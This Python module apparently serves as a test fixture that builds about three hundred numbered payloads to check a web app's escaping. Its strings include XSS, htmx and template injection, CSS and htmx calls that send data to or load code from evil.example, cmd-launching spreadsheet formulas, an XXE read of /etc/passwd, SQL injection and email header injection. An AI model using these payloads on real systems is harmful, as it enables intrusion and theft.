"""Three hundred texts that run a script, or a formula, where what is typed is taken for more than text.

Each has a number of its own and sets `__hit` to it (or calls `alert`), so that a test can tell which of them ran.
None is longer than 120 signs, so that each fits a title.
"""

from collections.abc import Iterator
from itertools import product

LONGEST = 120
# What a browser is told to run; {n} is the payload's own number.
RUN = "__hit={n}"

TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "math",
    "marquee",
    "object data=x",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
BROKEN_TAGS = (
    "<script>{r}</script>",
    "<ScRiPt>{r}</sCrIpT>",
    "<script/x>{r}</script/x>",
    "<script\n>{r}</script\n>",
    "<script>alert({n})",
    "<script src=data:,{r}></script>",
    "<script src=//evil.example/{n}.js></script>",
    "<script src=/static/bra/js/keys.js?{n}></script>",
    "<script type=module>{r}</script>",
    "<script nonce=''>{r}</script>",
    "<script>{r}//<!--",
    "<<script>{r}//<</script>",
    "<scr<script>ipt>{r}</scr</script>ipt>",
    "<svg><script>{r}</script></svg>",
    "<svg><script xlink:href=data:,{r} /></svg>",
    "<svg><animate onbegin={r} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{r}>",
    "<svg><use href='data:image/svg+xml,<svg onload={r}>'/></svg>",
    "<svg><a xlink:href=javascript:{r}><text y=9>x</text></a>",
    "<svg><foreignObject><iframe onload={r}></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{r}>x",
    "<iframe srcdoc='<script>parent.{r}</script>'>",
    "<iframe src=javascript:parent.{r}>",
    "<embed src=javascript:{r}>",
    "<form action=javascript:{r}><button autofocus>Spara</button></form>",
    "<button formaction=javascript:{r}>Spara</button>",
    "<isindex action=javascript:{r} type=image>",
    "<base href=javascript:{r}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{r}'>",
    "<link rel=import href=data:text/html,<script>{r}</script>>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<template><img src=x onerror={r}></template>",
    "<dialog open onclose={r}><form method=dialog>",
    "<input type=hidden oncontentvisibilityautostatechange={r} style=content-visibility:auto>",
    "<a href=x ping=//evil.example/{n} onclick={r}>x</a>",
    "<noscript><p title='</noscript><img src=x onerror={r}>'>",
)
ADDRESSES = (
    "javascript:{r}",
    "JaVaScRiPt:{r}",
    "java\tscript:{r}",
    "java\nscript:{r}",
    "\x01javascript:{r}",
    " javascript:{r}",
    "javascript&colon;{r}",
    "&#106;avascript:{r}",
    "javascript://example.org/%0A{r}",
    "vbscript:msgbox({n})",
    "data:text/html,<script>{r}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdD0x{n}PC9zY3JpcHQ+",
    "blob:https://example.org/{n}?{r}",
    "view-source:javascript:{r}",
    "//evil.example/{n}?{r}",
    'https://example.org/?{n}"onmouseover={r}//',
    "https://example.org/'><script>{r}</script>",
    "mailto:a@example.org?subject={n}%0ABcc:evil@example.org&body=<script>{r}</script>",
)
QUOTES = ('"', "'", "`", "", '\\"', "&quot;", "&#x27;", "%22", '""')
ATTRIBUTES = (
    " onfocus={r} autofocus x={q}",
    "><img src=x onerror={r}>",
    "><svg/onload={r}>",
    " style=animation-name:spin onanimationstart={r} x={q}",
)
ENDS = (
    *("</textarea>", "</title>", "</option></select>", "</style>", "</script>", "-->", "]]>", "</template>"),
    *("</svg>", "</td></tr></table>", "</button>", "</a>", "</label>", "</dialog>", "<!--><!--", "</p></form>"),
)
HTMX = (
    'hx-on:load="{r}"',
    'hx-on::load="{r}"',
    'hx-on:htmx:load="{r}"',
    'data-hx-on:click="{r}" hx-trigger=load',
    'hx-get="javascript:{r}" hx-trigger="load"',
    'hx-get="//evil.example/{n}" hx-trigger="load"',
    'hx-get="/" hx-trigger="load[{r}]"',
    "hx-vals='js:{{x:{r}}}' hx-get=/ hx-trigger=load",
    "hx-vars='x:{r}' hx-get=/ hx-trigger=load",
    "hx-headers='js:{{x:{r}}}' hx-get=/ hx-trigger=load",
    'hx-post="?{n}" hx-trigger="every 1s"',
    'hx-delete="/" hx-trigger="revealed" hx-confirm="{r}"',
    'hx-swap-oob="true" id="main" data-n="{n}"',
    'hx-swap-oob="beforeend:body" data-n="{n}"',
    'hx-ext="debug,ws,{n}" ws-connect="//evil.example"',
    "hx-request='js: {{\"x\":{r}}}' hx-get=/ hx-trigger=load",
    'hx-boost="true" hx-push-url="javascript:{r}"',
    'hx-select-oob="#main:innerHTML" hx-get="data:,{n}"',
)
OUR_SCRIPTS = (
    'data-dialog="keys-help" data-key="a" data-n="{n}"',
    'data-key="j" autofocus onclick="{r}"',
    'data-focus tabindex=0 onfocus="{r}"',
    'data-move="javascript:{r}" data-grip',
    'data-move="//evil.example/{n}" data-reorder',
    'data-copy="{r}" data-says="main" data-copied="<b>{n}</b>"',
    'data-passkey="constructor" data-options="{{}}" data-n="{n}"',
    'data-show-password="<script>{r}</script>"',
    'data-autosave hx-post="//evil.example/{n}" hx-trigger="load"',
    'data-autosubmit action="//evil.example/{n}"',
    'data-draft="x" data-unsent data-n="{n}"',
    'data-forget data-drafts="{n}"',
    'data-login="//evil.example/{n}"',
    'data-item="{n}" id="item"',
    'data-from-notes="{n}" name="make"',
    'id="save" data-saved="<img src=x onerror={r}>"',
    'id="logged-out" data-n="{n}"',
    'id="draft-offer" onload="{r}"',
    'name="htmx-config" content=\'{{"allowEval":true,"n":{n}}}\'',
    'class="usermenu" open ontoggle="{r}"',
)
TEMPLATES = (
    *("{{{{{r}}}}}", "{{{{ settings.SECRET_KEY }}}}{n}", "{{% debug %}}{n}", "{{{{ request|pprint }}}}{n}", "${{{r}}}"),
    *("#{{{r}}}", "<%= {r} %>", "<%- {r} %>", "<?php {r} ?>", "<?= {r} ?>", "{{{{constructor.constructor('{r}')()}}}}"),
    *("[[{r}]]", "*{{{r}}}", "@({r})", "{{!! {r} !!}}", "{{#if {r}}}{{/if}}", "`${{{r}}}`", "%(council)s %s {r}"),
    *(
        "{{0.__class__.__mro__}} {n}",
        "{{% include '/etc/passwd' %}}{n}",
        "{{{{ ''|safe }}}}<b onclick={r}>",
        "#set($x={r})",
    ),
    *("{{{{ 7|add:{n} }}}}", "{{% csrf_token %}}{n}", "{{% load static %}}{{% static '{n}' %}}", "__proto__[{n}]={r}"),
)
MARKDOWN = (
    "[länk {n}](javascript:{r})",
    "[länk](<javascript:{r}>)",
    "[länk](java&Tab;script:{r})",
    "[länk](data:text/html,<script>{r}</script>)",
    "[länk](https://example.org/ \"{n}' onclick='{r}\")",
    '[länk](https://example.org/"onclick="{r})',
    "![bild](javascript:{r})",
    '![bild](x"onerror="{r})',
    "![bild](//evil.example/{n}.png)",
    "<javascript:{r}>",
    '<https://example.org/"onclick="{r}>',
    "<https://example.org/?{n}&quot;onclick=&quot;{r}>",
    "<data:text/html,{r}>",
    "<a@example.org?onclick={r}>",
    "[a]: javascript:{r}\n\n[a]",
    "<div onclick={r}>\n\n**fet**\n\n</div>",
    "`<img src=x onerror={r}>`",
    "```<script>{r}</script>```",
    "    <script>{r}</script>",
    "| a | b |\n|---|---|\n| <svg onload={r}> | x |",
    "<svg onload={r}>\t<b>\nx\ty",
    "> <script>{r}</script>",
    "1. <img src=x onerror={r}>",
    "**<b onclick={r}>fet**</b>",
    "*a<img src=`x`onerror={r}>*",
    "\\<script>{r}\\</script>",
    "<!-- --><script>{r}</script>",
    "<![CDATA[<script>{r}</script>]]>",
)
STYLES = (
    "<style>@import'//evil.example/{n}';</style>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style=background:url(javascript:{r})>",
    "<p style=width:expression({r})>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/{n})'>",
    "<style>input[value^=a]{{background:url(//evil.example/{n})}}</style>",
    "</style><style>@font-face{{src:url(//evil.example/{n})}}",
    "color:red;-moz-binding:url(//evil.example/{n}#x)",
)
CODED = (
    "&lt;script&gt;{r}&lt;/script&gt;",
    "&#60;script&#62;{r}&#60;/script&#62;",
    "&#x3c;img src=x onerror={r}&#x3e;",
    "%3Cscript%3E{r}%3C/script%3E",
    "%253Cscript%253E{r}%253C/script%253E",
    "\\u003cscript\\u003e{r}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{r}\\x3c/script\\x3e",
    "+ADw-script+AD4-{r}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{r}\uff1c/script\uff1e",
    "\u2039script\u203a{r}\u2039/script\u203a",
    "\ufeff<script>{r}</script>",
    "<\u200bscript>{r}</script>",
    "<s\u00adcript>{r}</s\u00adcript>",
    "<script\u2028>{r}</script>",
    "\u202e>tpircs<{r}>tpircs/<",
    "\u2066<img src=x onerror={r}>\u2069",
    "<\x01script>{r}</script>",
    "<img\x0csrc=x\x0conerror={r}>",
    "<img\x0bsrc=x onerror={r}>",
    "<img src=x onerror\x0d={r}>",
    "<IMG SRC=x oNeRrOr={r}>",
    "<ſcript>{r}</ſcript>",
    "<\u0131mg src=x onerror={r}>",
    "\ue0000\ue001<script>{r}</script>\ue0001\ue001",
    "\x1b$B<script>{r}</script>\x1b(B",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror={r}>",
    "<svg></p><style><a id='</style><img src=x onerror={r}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={r}>",
    "<math><mi//xlink:href='data:x,<script>{r}</script>'>",
    "<noembed><img title='</noembed><img src onerror={r}>'>",
    "<xmp><p title='</xmp><svg/onload={r}>'>",
    "<listing>&lt;img onerror={r} src=x&gt;</listing>",
    "<table><td><a href=x><table><img src onerror={r}>",
    "<svg><desc><![CDATA[</desc><script>{r}</script>]]></svg>",
    "<svg><title><a id='</title><img src onerror={r}>'>",
    "<select><template><img src onerror={r}></template></select>",
    "<a name=forms><form name=body id=htmx><input name=config value={n}>",
    "<img name=getElementById><img name=querySelector alt={n}>",
    "<frameset onload={r}>",
)
FORMULAS = (
    '=HYPERLINK("javascript:{r}";"Klicka")',
    '=WEBSERVICE("//evil.example/{n}")',
    "=cmd|' /C calc'!A{n}",
    "+cmd|' /C calc'!A{n}",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+{n})*cmd|' /C calc'!A0",
    "\t=1+{n}",
    "\r=1+{n}",
    "\n=1+{n}",
    " =1+{n}",
    '";=1+{n};"',
    "\uff1d1+{n}",
    '=IMPORTXML(CONCAT("//evil.example/",A{n}),"//a")',
    '=DDE("cmd";"/C calc";"{n}")',
    "%0A=1+{n}",
)
DOCUMENTS = (
    '#eval("{n}") #import "/etc/passwd"',
    '#read("/etc/passwd") {n}',
    '#link("javascript:{r}")[x]',
    '"] #panic("{n}") #["',
    "$ #{n} $ @ref <label> \\ `raw",
    "\\input{{/etc/passwd}} \\write18{{{n}}}",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO {n}</w:instrText></w:r>",
    "</t></is></c><c><f>1+{n}</f></c>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;{n}',
    "<?xml-stylesheet href='javascript:{r}'?>",
    "]]></v><f>{n}</f><![CDATA[",
    "/JS ({r}) /S /JavaScript >> endobj",
    "(\\) Tj ET /URI (javascript:{r})",
    "_x003C_script_x003E_{r}",
    "<xsl:value-of select='{n}'/>",
    "' OR {n}=1; DROP TABLE bra_user; --",
)
LINES = (
    "x\r\nBcc: evil{n}@evil.example",
    "x\nBcc: evil{n}@evil.example",
    "x\rBcc: evil{n}@evil.example",
    "x\u2028Bcc: evil{n}@evil.example",
    "x\x85Bcc: evil{n}@evil.example",
    "x\x0bBcc: evil{n}@evil.example",
    "x\r\n\r\n<script>{r}</script>",
    "x\r\nContent-Type: text/html\r\n\r\n<script>{r}</script>",
    "=?utf-8?q?=0ABcc:_evil{n}=40evil.example?=",
    "=?utf-7?q?+ADw-script+AD4-{r}?=",
    "evil <evil{n}@evil.example>, x",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:{n}",
    "x\nATTENDEE:mailto:evil{n}@evil.example",
    "x\\nURL:javascript:{r}",
    'x;ALTREP="javascript:{r}":y',
    "x\r\n.\r\nMAIL FROM:<evil{n}@evil.example>",
    "x\r\nSet-Cookie: a={n}",
)


def _patterns() -> Iterator[str]:
    """Every pattern, in which {r} runs and {n} is the number."""
    yield from BROKEN_TAGS
    yield from (f"<{tag} {event}={{r}}>" for tag, event in product(TAGS, EVENTS[:4]))
    yield from (f"<x {event}={{r}} tabindex=1>x" for event in EVENTS)
    yield from ADDRESSES
    for quote, attribute in product(QUOTES, ATTRIBUTES):
        yield quote + attribute.replace("{q}", quote)
    yield from (f"{end}<img src=x onerror={{r}}>" for end in ENDS)
    yield from (f'"><a {attributes}>' for attributes in HTMX + OUR_SCRIPTS)
    yield from (*TEMPLATES, *MARKDOWN, *STYLES, *CODED, *MUTATIONS, *FORMULAS, *DOCUMENTS, *LINES)


def _numbered() -> Iterator[str]:
    """The payloads; one that hasn't its number in it by itself gets it as an end."""
    for number, pattern in enumerate(_patterns(), start=1000):
        yield pattern.format(r=RUN.format(n=number), n=number)


PAYLOADS = tuple(_numbered())
# Without those signs that no form takes or keeps: the rest is found again as it was typed.
PRINTABLE = tuple(one for one in PAYLOADS if one.isprintable() and one == one.strip())
